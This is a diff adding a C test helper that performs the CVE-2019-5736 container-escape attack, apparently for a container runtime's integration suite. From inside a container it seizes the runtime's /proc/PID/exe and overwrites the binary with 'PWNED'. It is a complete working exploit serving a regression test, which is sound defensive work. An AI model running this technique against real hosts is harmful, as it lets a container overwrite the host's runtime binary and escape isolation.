@@ -1,0 +1,188 @@
+/* exe_thief: the CVE-2019-5736 attacker of tests/integration/boundary_exe.bats,
+ * run inside a container. It waits for a process whose arguments include
+ * "--log=FIFO" (the runtime binary, started in the container through a
+ * /proc/self/exe symlink or a `#!/proc/self/exe` script, blocked opening
+ * its --log FIFO until someone reads), takes an O_PATH fd of its
+ * /proc/PID/exe, lets it go on (opens the FIFO for reading), and once
+ * nothing executes that file any more reopens the fd for writing through
+ * /proc/self/fd/N and writes "PWNED" over its first bytes.
+ *
+ *   exe_thief FIFO OUT [SECONDS]
+ *
+ * Appends to OUT (and prints) "target: PID EXE-LINK" (or "target: none"),
+ * "reopen: ok|ERRNO", "write: ok|ERRNO", then "done". Gives up after
+ * SECONDS (default 20). Built -static to run in the busybox rootfs. */
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <time.h>
+#include <unistd.h>
+
+static FILE *out;
+
+static void __attribute__ ((format (printf, 1, 2)))
+say (const char *fmt, ...)
+{
+  va_list ap;
+  va_start (ap, fmt);
+  vfprintf (out, fmt, ap);
+  va_end (ap);
+  fflush (out);
+}
+
+static const char *
+errno_name (int e)
+{
+  switch (e)
+    {
+    case EPERM: return "EPERM";
+    case EACCES: return "EACCES";
+    case ENOENT: return "ENOENT";
+    case ETXTBSY: return "ETXTBSY";
+    case EROFS: return "EROFS";
+    case EINVAL: return "EINVAL";
+    case EBADF: return "EBADF";
+    case ESRCH: return "ESRCH";
+    default: return "EOTHER";
+    }
+}
+
+static double
+now (void)
+{
+  struct timespec ts;
+  clock_gettime (CLOCK_MONOTONIC, &ts);
+  return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
+}
+
+/* Does /proc/PID/cmdline hold an argument equal to marker? */
+static int
+has_arg (const char *pid, const char *marker)
+{
+  char path[300], buf[8192];
+  ssize_t n;
+  int fd;
+
+  snprintf (path, sizeof path, "/proc/%s/cmdline", pid);
+  fd = open (path, O_RDONLY | O_CLOEXEC);
+  if (fd < 0)
+    return 0;
+  n = read (fd, buf, sizeof buf - 1);
+  close (fd);
+  if (n <= 0)
+    return 0;
+  buf[n] = '\0';
+  for (char *p = buf; p < buf + n; p += strlen (p) + 1)
+    if (strcmp (p, marker) == 0)
+      return 1;
+  return 0;
+}
+
+/* Scan /proc until a process carries marker; return an O_PATH fd of its
+ * exe (and its pid in *pid_out), or -1 at the deadline. */
+static int
+grab_exe (const char *marker, double deadline, char *pid_out, size_t pid_len)
+{
+  char self[32];
+  snprintf (self, sizeof self, "%d", (int) getpid ());
+  while (now () < deadline)
+    {
+      DIR *d = opendir ("/proc");
+      struct dirent *e;
+      if (d == NULL)
+        return -1;
+      while ((e = readdir (d)) != NULL)
+        {
+          char path[300];
+          int fd;
+          if (e->d_name[0] < '0' || e->d_name[0] > '9' || strcmp (e->d_name, self) == 0)
+            continue;
+          if (!has_arg (e->d_name, marker))
+            continue;
+          snprintf (path, sizeof path, "/proc/%s/exe", e->d_name);
+          fd = open (path, O_PATH | O_CLOEXEC);
+          if (fd < 0)
+            {
+              say ("open %s: %s\n", path, errno_name (errno));
+              continue;
+            }
+          snprintf (pid_out, pid_len, "%s", e->d_name);
+          closedir (d);
+          return fd;
+        }
+      closedir (d);
+      usleep (2000);
+    }
+  return -1;
+}
+
+int
+main (int argc, char **argv)
+{
+  char marker[4200], pid[256], link[4096], path[64];
+  double deadline;
+  ssize_t n;
+  int exe, fifo, w = -1;
+
+  if (argc < 3)
+    {
+      fprintf (stderr, "usage: exe_thief FIFO OUT [SECONDS]\n");
+      return 2;
+    }
+  out = fopen (argv[2], "a");
+  if (out == NULL)
+    return 2;
+  deadline = now () + (argc > 3 ? atof (argv[3]) : 20.0);
+  if (mkfifo (argv[1], 0666) < 0 && errno != EEXIST)
+    {
+      say ("mkfifo: %s\ndone\n", errno_name (errno));
+      return 1;
+    }
+  snprintf (marker, sizeof marker, "--log=%s", argv[1]);
+  say ("ready\n");
+
+  exe = grab_exe (marker, deadline, pid, sizeof pid);
+  if (exe < 0)
+    {
+      say ("target: none\ndone\n");
+      return 1;
+    }
+  snprintf (path, sizeof path, "/proc/self/fd/%d", exe);
+  n = readlink (path, link, sizeof link - 1);
+  link[n > 0 ? n : 0] = '\0';
+  say ("target: %s %s\n", pid, link);
+
+  /* Release the runtime: its open(FIFO, O_WRONLY) returns once a reader
+   * exists; then it fails on its arguments and exits. */
+  fifo = open (argv[1], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+
+  /* While anything executes the file, opening it for writing is ETXTBSY. */
+  while (now () < deadline)
+    {
+      char drain[4096];
+      if (fifo >= 0)
+        while (read (fifo, drain, sizeof drain) > 0)
+          ;
+      w = open (path, O_WRONLY | O_CLOEXEC);
+      if (w >= 0 || errno != ETXTBSY)
+        break;
+      usleep (5000);
+    }
+  if (w < 0)
+    {
+      say ("reopen: %s\ndone\n", errno_name (errno));
+      return 1;
+    }
+  say ("reopen: ok\n");
+  if (pwrite (w, "PWNED", 5, 0) == 5)
+    say ("write: ok\n");
+  else
+    say ("write: %s\n", errno_name (errno));
+  say ("done\n");
+  return 0;
+}
